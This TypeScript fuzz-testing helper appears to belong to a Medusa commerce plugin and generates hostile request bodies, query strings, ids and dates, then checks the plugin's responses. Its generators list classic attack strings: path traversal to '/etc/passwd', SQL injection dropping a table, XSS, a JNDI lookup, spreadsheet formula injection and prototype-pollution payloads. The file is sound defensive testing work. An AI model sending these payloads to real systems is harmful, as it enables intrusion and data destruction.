import fc from "fast-check"
import type { MedusaContainer } from "@medusajs/framework/types"
import { ContainerRegistrationKeys } from "@medusajs/framework/utils"
import { LOG_TABLE, PLUGIN_TABLES, SESSION_CART_TABLE } from "./db"

/**
 * A digest of everything a refused request must leave alone: the plugin's
 * state (consent, settings, grants, tickets, sessions) and the customers'
 * accounts, addresses and carts. The log is left out on purpose: refusals are
 * put on record (`login_denied`, refused store actions), and the log is
 * append-only (a database trigger), so its existing lines can't change.
 */
export async function stateDigest(container: MedusaContainer): Promise<string> {
  const knex = container.resolve(ContainerRegistrationKeys.PG_CONNECTION)
  const tables = [
    // Carts marked for a session follow an accepted store request.
    ...PLUGIN_TABLES.filter((table) => table !== LOG_TABLE && table !== SESSION_CART_TABLE),
    "customer",
    "customer_address",
    "cart",
    "provider_identity",
    "auth_identity",
    "user",
  ]
  const result = await knex.raw(
    `select md5(coalesce(string_agg(t, '|' order by t), '')) as digest from (
      ${tables.map((table) => `select '${table}:' || row_to_json(x)::text as t from "${table}" x`).join(" union all ")}
    ) rows`
  )
  return result.rows[0].digest
}

/** Strings an attacker would try: unicode, control characters, injections, path tricks, very long. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 3, arbitrary: fc.fullUnicodeString({ maxLength: 40 }) },
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      "",
      " ",
      "__proto__",
      "constructor",
      "prototype",
      "../../../../etc/passwd",
      "..%2F..%2Fadmin",
      "%00",
      "\u0000",
      "\u202e\u0000\uffff",
      // Lone surrogates: half a UTF-16 pair, which JSON escapes ("\ud800") and PostgreSQL refuses.
      "\ud800",
      "\udfff",
      "Ref \ud83d",
      "a\udc00b",
      "\ude00\ud83d",
      "' OR 1=1 --",
      "\"; drop table customer; --",
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "${jndi:ldap://x/a}",
      "{{7*7}}",
      "=HYPERLINK(\"http://evil\")",
      "javascript:alert(1)",
      "https://evil.example.com",
      "null",
      "undefined",
      "true",
      "-1",
      "1e309",
      "NaN",
      "0x7fffffff",
      "9".repeat(400),
      "lacs_01JZZZZZZZZZZZZZZZZZZZZZZZ",
      "cus_01JZZZZZZZZZZZZZZZZZZZZZZZ",
      "😀".repeat(300),
      "a".repeat(5_000),
      "ü".repeat(70_000)
    )
  },
  { weight: 1, arbitrary: fc.string({ minLength: 200, maxLength: 2_000 }) }
)

const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "$where", "$ne", "\ud800"),
  fc.string({ maxLength: 12 })
)

/** Any JSON value, with prototype-pollution keys among the object keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    hostileString,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.constantFrom(Number.MAX_SAFE_INTEGER, -1, 0, 1e21),
    fc.array(tie("value"), { maxLength: 4 }),
    fc.dictionary(hostileKey, tie("value"), { maxKeys: 4 })
  ),
})).value

/**
 * Dates at and past the edges of what PostgreSQL and JavaScript both hold
 * (years 1 to 9999 written with four digits), and any date JavaScript holds.
 */
export const hostileDate: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "0000-01-01",
    "0000-12-31T23:59:59Z",
    "0001-01-01T00:00:00+01:00",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999Z",
    "9999-12-31T23:59:59-01:00",
    "10000-01-01",
    "+010000-01-01T00:00:00Z",
    "-000001-01-01T00:00:00Z",
    "+275760-09-13T00:00:00Z",
    "-271821-04-20T00:00:00Z",
    "2026-02-30",
    "2026-13-01",
    "275760-09-13",
    "9999-12-31T23:59:59.999-14:00",
    "Tue, 01 Dec 2026 10:00:00 GMT"
  ),
  fc.date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true }).map((date) => date.toISOString())
)

/**
 * A raw JSON body whose arrays or objects nest up to 40 000 deep, alone or
 * under one of the route's fields. A string: JSON.stringify itself would
 * overflow the stack on it.
 */
export function deepJson(fields: string[]): fc.Arbitrary<string> {
  const nested = fc
    .tuple(fc.oneof(fc.integer({ min: 20, max: 40 }), fc.integer({ min: 41, max: 40_000 })), fc.boolean())
    .map(([depth, arrays]) => (arrays ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth)))
  const field = fields.length ? fc.option(fc.constantFrom(...fields)) : fc.constant(null)
  return fc.tuple(nested, field).map(([value, key]) => (key === null ? value : `{${JSON.stringify(key)}:${value}}`))
}

/**
 * A JSON body built from the route's own field names (so validation is reached
 * field by field) mixed with hostile keys and values, or not an object at all.
 */
export function hostileBody(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
  const known = fc.record(
    Object.fromEntries(Object.entries(fields).map(([key, arb]) => [key, fc.oneof(arb, hostileValue)])),
    { requiredKeys: [] }
  )
  return fc.oneof(
    { weight: 5, arbitrary: known },
    {
      weight: 3,
      arbitrary: fc
        .tuple(known, fc.dictionary(hostileKey, hostileValue, { minKeys: 1, maxKeys: 3 }))
        .map(([a, b]) => ({ ...a, ...b })),
    },
    { weight: 1, arbitrary: fc.constant(JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}')) },
    { weight: 2, arbitrary: hostileValue },
    { weight: 1, arbitrary: deepJson(Object.keys(fields)) }
  )
}

/** A raw query string: the route's parameters and others, with hostile values, nested and repeated. */
export function hostileQuery(keys: string[]): fc.Arbitrary<string> {
  // A URL can't carry a lone surrogate (percent-encoding is UTF-8): those are left to the bodies.
  const encodable = (v: string) => !/[\uD800-\uDFFF]/u.test(v)
  const key = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...keys) },
    { weight: 1, arbitrary: hostileKey.filter(encodable) },
    { weight: 1, arbitrary: fc.constantFrom(...keys).map((k) => `${k}[]`) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...keys), hostileKey.filter(encodable)).map(([k, sub]) => `${k}[${sub}]`) }
  )
  // Node answers 431 (without JSON) to request heads over 16 KB, before any route runs.
  const value = fc.oneof(
    { weight: 4, arbitrary: hostileString.filter((v) => encodable(v) && encodeURIComponent(v).length < 2_000) },
    { weight: 1, arbitrary: hostileDate }
  )
  const pair = fc.tuple(key, value).map(([k, v]) => `${encodeURIComponent(k).replace(/%5B/g, "[").replace(/%5D/g, "]")}=${encodeURIComponent(v)}`)
  const raw = fc.constantFrom("%", "%E0%A4%A", "a=%zz", "&&&", "=", "a[b][c][d][e][f][g]=1", "__proto__[polluted]=1", "constructor[prototype][polluted]=1")
  return fc
    .array(fc.oneof({ weight: 6, arbitrary: pair }, { weight: 1, arbitrary: raw }), { maxLength: 5 })
    .map((parts) => (parts.length ? `?${parts.join("&")}` : ""))
}

/** A path segment standing for an id. */
export const hostileId: fc.Arbitrary<string> = fc.oneof(
  hostileString
    .filter((s) => s.length > 0 && s.length < 2_000 && s !== "." && s !== ".." && !/[\uD800-\uDFFF]/u.test(s))
    .map((s) => encodeURIComponent(s)),
  fc.constantFrom("%2F", "%", "%ZZ", "a%00b", "%252e%252e", "..%5C..%5C")
)

export type FuzzResponse = { status: number; headers: Record<string, unknown>; data: unknown }

/**
 * What every answer of the plugin's routes must be: never a 5xx; an error is
 * JSON with a message and a code or type.
 */
export function checkAnswer(response: FuzzResponse): string | null {
  if (response.status >= 500) {
    return `answered ${response.status}: ${JSON.stringify(response.data).slice(0, 300)}`
  }
  if (response.status >= 400) {
    const contentType = String(response.headers["content-type"] ?? "")
    const body = response.data as { message?: unknown; code?: unknown; type?: unknown } | null
    if (!contentType.includes("application/json") || !body || typeof body !== "object") {
      return `answered ${response.status} without a JSON body (${contentType}): ${String(response.data).slice(0, 200)}`
    }
    if (typeof body.message !== "string" || !body.message) {
      return `answered ${response.status} without a message: ${JSON.stringify(body).slice(0, 200)}`
    }
    if (typeof body.code !== "string" && typeof body.type !== "string") {
      return `answered ${response.status} without a code or type: ${JSON.stringify(body).slice(0, 200)}`
    }
  }
  if (Object.prototype.hasOwnProperty.call(Object.prototype, "polluted")) {
    return "Object.prototype was polluted"
  }
  return null
}
